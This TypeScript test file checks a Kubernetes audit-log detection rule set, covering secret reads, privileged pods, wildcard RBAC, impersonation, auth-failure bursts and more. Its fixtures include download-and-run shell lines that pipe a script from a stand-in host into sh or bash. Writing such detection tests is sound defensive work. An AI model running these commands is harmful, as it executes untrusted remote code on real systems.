import { mkdtemp, readdir, rm, writeFile, mkdir } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createAuditLabeler } from '../../shared/audit/label.js';
import { defaultRulesDir, loadAuditRules, loadRulesDir, parseRulesYaml, type LoadedRule } from '../../shared/audit/rules.js';
import type { AuditEvent, AuditLabel } from '../../shared/audit/types.js';
import { InputError } from '../../shared/util/errors.js';

let builtIn: LoadedRule[];
beforeAll(async () => {
  builtIn = await loadAuditRules();
});

let seq = 0;
const T0 = Date.parse('2024-06-01T10:00:00Z');

function ev(over: Partial<AuditEvent> & { at?: number; code?: number; username?: string; groups?: string[] } = {}): AuditEvent {
  const { at = 0, code = 200, username = 'alice@contoso.example', groups = ['system:authenticated'], ...rest } = over;
  seq++;
  return {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'Request',
    auditID: `00000000-0000-4000-8000-${String(seq).padStart(12, '0')}`,
    stage: 'ResponseComplete',
    requestURI: '/api/v1/namespaces/default/pods',
    verb: 'get',
    user: { username, groups },
    sourceIPs: ['203.0.113.9'],
    responseStatus: { code },
    requestReceivedTimestamp: new Date(T0 + at * 1000).toISOString(),
    ...rest,
  };
}

/** Labels of one rule over a sequence of events, through the whole built-in rule set. */
function labelsOf(ruleId: string, events: AuditEvent[], allowedNetworks?: string[]): AuditLabel[] {
  const labeler = createAuditLabeler(builtIn, allowedNetworks ? { allowedNetworks } : {});
  return events.flatMap((e) => labeler.push(e)).filter((l) => l.ruleId === ruleId);
}

const workload = (resource: string, group: string | undefined, body: unknown, over: Partial<Parameters<typeof ev>[0]> = {}) =>
  ev({ verb: 'create', objectRef: { resource, namespace: 'default', name: 'x', ...(group ? { apiGroup: group } : {}) }, requestObject: body, code: 201, ...over });

const podSpec = (spec: Record<string, unknown>) => ({ kind: 'Pod', metadata: { name: 'x' }, spec: { containers: [{ name: 'c', image: 'busybox' }], ...spec } });
const deploymentWith = (spec: Record<string, unknown>) => ({ kind: 'Deployment', spec: { template: { spec: { containers: [{ name: 'c', image: 'busybox' }], ...spec } } } });

/**
 * Every built-in rule, both ways: `fires` must earn exactly the rule's label,
 * `quiet` must not earn it.
 */
const cases: Record<string, { fires: () => AuditEvent[]; quiet: () => AuditEvent[]; allowed?: string[]; expectMatched?: Record<string, unknown> }> = {
  'secret-read': {
    fires: () => [ev({ verb: 'get', objectRef: { resource: 'secrets', namespace: 'prod', name: 'db' } })],
    quiet: () => [
      ev({ verb: 'get', objectRef: { resource: 'secrets', namespace: 'prod', name: 'db' }, username: 'system:node:aks-1' }),
      ev({ verb: 'get', objectRef: { resource: 'secrets', namespace: 'prod', name: 'db' }, code: 403 }),
      ev({ verb: 'get', objectRef: { resource: 'configmaps', namespace: 'prod', name: 'db' } }),
    ],
    expectMatched: { verb: 'get', 'objectRef.resource': 'secrets', 'responseStatus.code': 200 },
  },
  'secret-list': {
    fires: () => [ev({ verb: 'list', objectRef: { resource: 'secrets' } })],
    quiet: () => [ev({ verb: 'list', objectRef: { resource: 'secrets' }, username: 'system:kube-controller-manager' }), ev({ verb: 'list', objectRef: { resource: 'pods' } })],
  },
  'secret-read-cross-namespace-sa': {
    fires: () => [
      ev({ verb: 'list', objectRef: { resource: 'secrets' }, username: 'system:serviceaccount:prod:api' }),
      ev({ verb: 'get', objectRef: { resource: 'secrets', namespace: 'kube-system', name: 't' }, username: 'system:serviceaccount:prod:api' }),
    ],
    quiet: () => [
      ev({ verb: 'get', objectRef: { resource: 'secrets', namespace: 'prod', name: 't' }, username: 'system:serviceaccount:prod:api' }),
      ev({ verb: 'list', objectRef: { resource: 'secrets' }, username: 'alice@contoso.example' }),
    ],
    expectMatched: { 'user.username': 'system:serviceaccount:prod:api', 'objectRef.namespace': '(all namespaces)' },
  },
  'secret-get-burst': {
    fires: () => Array.from({ length: 10 }, (_, i) => ev({ at: i * 20, verb: 'get', objectRef: { resource: 'secrets', namespace: 'prod', name: `s${i}` } })),
    quiet: () => [
      ...Array.from({ length: 9 }, (_, i) => ev({ at: i, verb: 'get', objectRef: { resource: 'secrets', namespace: 'prod', name: `s${i}` } })),
      // the tenth is too late for the window
      ev({ at: 400, verb: 'get', objectRef: { resource: 'secrets', namespace: 'prod', name: 's9' } }),
      // another user's reads do not add up
      ...Array.from({ length: 5 }, (_, i) => ev({ at: i, username: 'bob', verb: 'get', objectRef: { resource: 'secrets', namespace: 'prod', name: `b${i}` } })),
    ],
  },
  'pod-exec': {
    fires: () => [ev({ verb: 'create', requestURI: '/api/v1/namespaces/p/pods/a/exec?command=sh', objectRef: { resource: 'pods', namespace: 'p', name: 'a', subresource: 'exec' }, code: 101 })],
    quiet: () => [ev({ verb: 'get', objectRef: { resource: 'pods', namespace: 'p', name: 'a', subresource: 'log' } })],
  },
  'pod-portforward': {
    fires: () => [ev({ verb: 'get', objectRef: { resource: 'pods', namespace: 'p', name: 'a', subresource: 'portforward' }, code: 101 })],
    quiet: () => [ev({ verb: 'create', objectRef: { resource: 'pods', namespace: 'p', name: 'a', subresource: 'exec' }, code: 101 })],
  },
  'node-proxy': {
    fires: () => [ev({ verb: 'get', objectRef: { resource: 'nodes', name: 'n1', subresource: 'proxy' } })],
    quiet: () => [ev({ verb: 'get', objectRef: { resource: 'nodes', name: 'n1', subresource: 'status' } })],
  },
  'pod-privileged': {
    fires: () => [
      workload('pods', undefined, podSpec({ containers: [{ name: 'c', securityContext: { privileged: true } }] })),
      workload('deployments', 'apps', deploymentWith({ initContainers: [{ name: 'i', securityContext: { privileged: true } }] })),
    ],
    quiet: () => [
      workload('pods', undefined, podSpec({ containers: [{ name: 'c', securityContext: { privileged: false } }] })),
      workload('pods', undefined, podSpec({ containers: [{ name: 'c', securityContext: { privileged: true } }] }), { username: 'system:serviceaccount:kube-system:daemon-set-controller' }),
    ],
    expectMatched: { 'requestObject.spec.containers[0].securityContext.privileged': true },
  },
  'pod-host-namespaces': {
    fires: () => [workload('pods', undefined, podSpec({ hostPID: true })), workload('daemonsets', 'apps', deploymentWith({ hostNetwork: true }))],
    quiet: () => [workload('pods', undefined, podSpec({ hostNetwork: false }))],
  },
  'pod-hostpath': {
    fires: () => [workload('pods', undefined, podSpec({ volumes: [{ name: 'h', hostPath: { path: '/' } }] }))],
    quiet: () => [workload('pods', undefined, podSpec({ volumes: [{ name: 'e', emptyDir: {} }] }))],
  },
  'workload-download-and-run': {
    fires: () => [
      workload('cronjobs', 'batch', { kind: 'CronJob', spec: { jobTemplate: { spec: { template: { spec: { containers: [{ name: 'r', command: ['/bin/sh', '-c'], args: ['curl -s http://198.51.100.7/x.sh | sh'] }] } } } } } }),
      workload('pods', undefined, podSpec({ containers: [{ name: 'c', command: ['sh', '-c', 'wget -qO- http://x/y|bash'] }] })),
    ],
    quiet: () => [workload('pods', undefined, podSpec({ containers: [{ name: 'c', command: ['sh', '-c', 'curl -o /tmp/x http://x/y'] }] }))],
  },
  'cronjob-created': {
    fires: () => [workload('cronjobs', 'batch', { kind: 'CronJob' })],
    quiet: () => [workload('cronjobs', 'batch', { kind: 'CronJob' }, { verb: 'update' }), workload('jobs', 'batch', { kind: 'Job' })],
  },
  'rbac-binding-powerful-role': {
    fires: () => [workload('clusterrolebindings', 'rbac.authorization.k8s.io', { roleRef: { kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'User', name: 'eve' }] })],
    quiet: () => [workload('rolebindings', 'rbac.authorization.k8s.io', { roleRef: { kind: 'ClusterRole', name: 'view' }, subjects: [{ kind: 'User', name: 'eve' }] })],
    expectMatched: { 'requestObject.roleRef.name': 'cluster-admin' },
  },
  'rbac-binding-anonymous-subject': {
    fires: () => [workload('clusterrolebindings', 'rbac.authorization.k8s.io', { roleRef: { name: 'view' }, subjects: [{ kind: 'User', name: 'system:anonymous' }] })],
    quiet: () => [workload('clusterrolebindings', 'rbac.authorization.k8s.io', { roleRef: { name: 'view' }, subjects: [{ kind: 'Group', name: 'devs' }] })],
  },
  'rbac-role-wildcard': {
    fires: () => [workload('clusterroles', 'rbac.authorization.k8s.io', { rules: [{ apiGroups: [''], resources: ['pods'], verbs: ['*'] }] })],
    quiet: () => [
      workload('clusterroles', 'rbac.authorization.k8s.io', { rules: [{ apiGroups: [''], resources: ['pods'], verbs: ['get'] }] }),
      workload('clusterroles', 'rbac.authorization.k8s.io', { rules: [{ resources: ['*'], verbs: ['*'] }] }, { username: 'system:apiserver' }),
    ],
  },
  'rbac-binding-wildcard-role': {
    fires: () => [
      workload('roles', 'rbac.authorization.k8s.io', { metadata: { name: 'god' }, rules: [{ resources: ['*'], verbs: ['get'] }] }, { objectRef: { resource: 'roles', apiGroup: 'rbac.authorization.k8s.io', namespace: 'default', name: 'god' } }),
      workload('rolebindings', 'rbac.authorization.k8s.io', { roleRef: { kind: 'Role', name: 'god' }, subjects: [{ kind: 'User', name: 'eve' }] }, { at: 60 }),
    ],
    quiet: () => [
      workload('roles', 'rbac.authorization.k8s.io', { metadata: { name: 'god' }, rules: [{ resources: ['*'], verbs: ['get'] }] }, { objectRef: { resource: 'roles', apiGroup: 'rbac.authorization.k8s.io', namespace: 'default', name: 'god' } }),
      workload('rolebindings', 'rbac.authorization.k8s.io', { roleRef: { kind: 'Role', name: 'other' } }, { at: 60 }),
      // bound more than a day later: outside the window
      workload('rolebindings', 'rbac.authorization.k8s.io', { roleRef: { kind: 'Role', name: 'god' } }, { at: 90_000 }),
    ],
  },
  impersonation: {
    fires: () => [ev({ impersonatedUser: { username: 'system:admin' } })],
    quiet: () => [ev({})],
    expectMatched: { 'impersonatedUser.username': 'system:admin' },
  },
  'serviceaccount-token-request': {
    fires: () => [ev({ verb: 'create', objectRef: { resource: 'serviceaccounts', namespace: 'x', name: 'sa', subresource: 'token' }, code: 201 })],
    quiet: () => [ev({ verb: 'create', objectRef: { resource: 'serviceaccounts', namespace: 'x', name: 'sa', subresource: 'token' }, username: 'system:node:aks-1', code: 201 })],
  },
  'anonymous-success': {
    fires: () => [
      ev({ username: 'system:anonymous', groups: ['system:unauthenticated'], verb: 'list', requestURI: '/api/v1/secrets', objectRef: { resource: 'secrets' } }),
      ev({ username: 'someone', groups: ['system:unauthenticated'], verb: 'get', requestURI: '/api/v1/nodes' }),
    ],
    quiet: () => [
      ev({ username: 'system:anonymous', groups: ['system:unauthenticated'], verb: 'get', requestURI: '/healthz' }),
      ev({ username: 'system:anonymous', groups: ['system:unauthenticated'], verb: 'list', requestURI: '/api/v1/secrets', code: 403 }),
    ],
  },
  'unexpected-source-network': {
    allowed: ['10.0.0.0/8', '2001:db8::/32'],
    fires: () => [ev({ sourceIPs: ['198.51.100.7'] }), ev({ sourceIPs: ['2001:db9::1'] })],
    quiet: () => [ev({ sourceIPs: ['10.1.2.3'] }), ev({ sourceIPs: ['2001:db8::5'] })],
    expectMatched: { 'sourceIPs[0]': '198.51.100.7' },
  },
  'auth-failure-burst': {
    fires: () => Array.from({ length: 10 }, (_, i) => ev({ at: i * 5, code: i % 2 ? 401 : 403, username: 'system:anonymous', sourceIPs: ['198.51.100.7'] })),
    quiet: () => [
      ...Array.from({ length: 9 }, (_, i) => ev({ at: i, code: 403, username: 'system:anonymous', sourceIPs: ['198.51.100.7'] })),
      ev({ at: 5, code: 403, username: 'system:anonymous', sourceIPs: ['198.51.100.8'] }),
      ev({ at: 6, code: 200, username: 'system:anonymous', sourceIPs: ['198.51.100.7'] }),
    ],
  },
  'event-deletion': {
    fires: () => [ev({ verb: 'deletecollection', objectRef: { resource: 'events', namespace: 'default' } }), ev({ verb: 'delete', objectRef: { resource: 'events', apiGroup: 'events.k8s.io', namespace: 'd', name: 'e' } })],
    quiet: () => [ev({ verb: 'list', objectRef: { resource: 'events', namespace: 'default' } })],
  },
  'cleanup-delete-own-creation': {
    fires: () => [
      ev({ verb: 'create', objectRef: { resource: 'pods', namespace: 'default' }, responseObject: { metadata: { name: 'node-shell' } }, code: 201 }),
      ev({ at: 3600, verb: 'delete', objectRef: { resource: 'pods', namespace: 'default', name: 'node-shell' } }),
    ],
    quiet: () => [
      ev({ verb: 'create', objectRef: { resource: 'pods', namespace: 'default', name: 'node-shell' }, code: 201 }),
      // someone else deletes it
      ev({ at: 60, verb: 'delete', objectRef: { resource: 'pods', namespace: 'default', name: 'node-shell' }, username: 'bob' }),
      // same name, other namespace
      ev({ at: 60, verb: 'delete', objectRef: { resource: 'pods', namespace: 'other', name: 'node-shell' } }),
      // controllers create and delete pods all day
      ev({ verb: 'create', objectRef: { resource: 'pods', namespace: 'd', name: 'rs-1' }, username: 'system:serviceaccount:kube-system:replicaset-controller', code: 201 }),
      ev({ at: 5, verb: 'delete', objectRef: { resource: 'pods', namespace: 'd', name: 'rs-1' }, username: 'system:serviceaccount:kube-system:replicaset-controller' }),
    ],
  },
};

describe('built-in rules', () => {
  it('are all valid and all covered by these tests', async () => {
    const files = (await readdir(defaultRulesDir())).filter((f) => f.endsWith('.yaml'));
    expect(files.length).toBeGreaterThanOrEqual(5);
    expect(builtIn.map((r) => r.id).sort()).toEqual(Object.keys(cases).sort());
  });

  describe.each(Object.entries(cases))('%s', (ruleId, c) => {
    it('labels the matching events', () => {
      const labels = labelsOf(ruleId, c.fires(), c.allowed);
      const rule = builtIn.find((r) => r.id === ruleId)!;
      expect(labels.length).toBeGreaterThanOrEqual(1);
      for (const l of labels) {
        expect(l.severity).toBe(rule.severity);
        expect(l.auditID).toMatch(/^00000000-/);
        expect(l.time).toMatch(/Z$/);
        expect(Object.keys(l.matched).length).toBeGreaterThan(0);
      }
      if (c.expectMatched) expect(labels[0]!.matched).toMatchObject(c.expectMatched);
    });
    it('leaves the others alone', () => {
      expect(labelsOf(ruleId, c.quiet(), c.allowed)).toEqual([]);
    });
  });

  it('labels one burst once, with the count, the group and the events', () => {
    const labels = labelsOf('auth-failure-burst', Array.from({ length: 12 }, (_, i) => ev({ at: i, code: 403, username: 'system:anonymous', sourceIPs: ['198.51.100.7'] })));
    expect(labels).toHaveLength(1);
    expect(labels[0]!.matched).toMatchObject({ count: 10, threshold: 10, windowSeconds: 60, 'groupBy.sourceIPs[0]': '198.51.100.7', 'groupBy.user.username': 'system:anonymous' });
    expect((labels[0]!.matched.auditIDs as string[]).length).toBe(10);
  });

  it('cleanup label names the creating event', () => {
    const [create, del] = cases['cleanup-delete-own-creation']!.fires();
    const [label] = labelsOf('cleanup-delete-own-creation', [create!, del!]);
    expect(label!.auditID).toBe(del!.auditID);
    expect(label!.matched['first.auditID']).toBe(create!.auditID);
  });

  it('says the network rule is inactive without an allow-list', () => {
    const labeler = createAuditLabeler(builtIn);
    expect(labeler.inactive).toEqual([{ ruleId: 'unexpected-source-network', reason: expect.stringMatching(/no expected networks configured/) }]);
    expect(labeler.push(ev({ sourceIPs: ['198.51.100.7'] })).filter((l) => l.ruleId === 'unexpected-source-network')).toEqual([]);
  });

  it('refuses an allow-list entry that is not a CIDR', () => {
    expect(() => createAuditLabeler(builtIn, { allowedNetworks: ['10.0.0.0/33'] })).toThrow(InputError);
  });
});

describe('rule files', () => {
  let dir: string;
  beforeEach(async () => {
    dir = await mkdtemp(join(tmpdir(), 'rules-'));
  });
  afterEach(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  it('a user directory adds rules and can override a built-in one', async () => {
    await writeFile(
      join(dir, 'mine.yaml'),
      `- id: configmap-write-kube-system
  title: ConfigMap changed in kube-system
  severity: medium
  description: Someone changed a kube-system ConfigMap (coredns-custom was changed by the attacker).
  match:
    verbs: [update, patch]
    resources: [core/configmaps]
    namespaces: [kube-system]
- id: secret-read
  title: Secret read (disabled here)
  severity: low
  description: too noisy for us
  enabled: false
  match: { verbs: [get], resources: [secrets] }
`,
    );
    const rules = await loadAuditRules({ userDirs: [dir] });
    expect(rules.map((r) => r.id)).toContain('configmap-write-kube-system');
    const labeler = createAuditLabeler(rules);
    expect(labeler.inactive).toContainEqual({ ruleId: 'secret-read', reason: 'disabled (enabled: false)' });
    const labels = labeler.push(ev({ verb: 'patch', objectRef: { resource: 'configmaps', namespace: 'kube-system', name: 'coredns-custom' } }));
    expect(labels.map((l) => l.ruleId)).toEqual(['configmap-write-kube-system']);
    expect(labeler.push(ev({ verb: 'get', objectRef: { resource: 'secrets', namespace: 'a', name: 'b' } })).map((l) => l.ruleId)).not.toContain('secret-read');
  });

  it.each([
    ['- id: Bad_Id\n  title: t\n  severity: low\n  description: d\n  match: { verbs: [get] }\n', /bad\.yaml: rule "Bad_Id" at id: lower-case/],
    ['- id: r1\n  title: t\n  severity: urgent\n  description: d\n  match: { verbs: [get] }\n', /bad\.yaml: rule "r1" at severity/],
    ['- id: r2\n  title: t\n  severity: low\n  description: d\n  match: { verbz: [get] }\n', /bad\.yaml: rule "r2" at match: .*verbz/],
    ['- id: r3\n  title: t\n  severity: low\n  description: d\n  match: { all: [{ path: "a..b", equals: 1 }] }\n', /bad\.yaml: rule "r3" at match\.all\.0\.path: "a\.\.b"/],
    ['- id: r4\n  title: t\n  severity: low\n  description: d\n  match: { all: [{ path: a, equals: 1, exists: true }] }\n', /rule "r4" at match\.all\.0: a predicate needs exactly one/],
    ['- id: r5\n  kind: threshold\n  title: t\n  severity: low\n  description: d\n  match: {}\n  groupBy: [user.username]\n  threshold: 1\n  windowSeconds: 60\n', /rule "r5" at threshold/],
    ['- id: r6\n  title: t\n  severity: low\n  description: d\n  match: { sourceIpNotIn: [10.0.0.0/40] }\n', /rule "r6" at match\.sourceIpNotIn\.0: use a CIDR/],
    ['- id: r7\n  title: t\n  severity: low\n  description: d\n  match: { any: [{ path: a, matches: "([" }] }\n', /rule "r7" at match\.any\.0\.matches: not a valid regular expression/],
    ['rules: {}\n', /bad\.yaml: expected a list of rules/],
    ['- id: r8\n  title: [unclosed\n', /bad\.yaml: not valid YAML/],
  ])('a broken rule file is refused with a message naming the file and the rule (%#)', async (text, message) => {
    await writeFile(join(dir, 'bad.yaml'), text);
    await expect(loadRulesDir(dir)).rejects.toThrow(message);
  });

  it('refuses one id declared in two user files', async () => {
    const rule = (id: string) => `- id: ${id}\n  title: t\n  severity: low\n  description: d\n  match: { verbs: [get] }\n`;
    await mkdir(join(dir, 'a'));
    await writeFile(join(dir, 'a', '1.yaml'), rule('dup'));
    await writeFile(join(dir, 'a', '2.yml'), rule('dup'));
    await expect(loadRulesDir(join(dir, 'a'))).rejects.toThrow(/2\.yml: rule "dup" is already declared in 1\.yaml/);
  });

  it('parses several YAML documents in one file', () => {
    const rules = parseRulesYaml('- { id: a, title: t, severity: low, description: d, match: { verbs: [get] } }\n---\nrules:\n  - { id: b, title: t, severity: info, description: d, match: { verbs: [list] } }\n', 'x.yaml');
    expect(rules.map((r) => `${r.id}:${r.kind}:${r.file}`)).toEqual(['a:match:x.yaml', 'b:match:x.yaml']);
  });
});
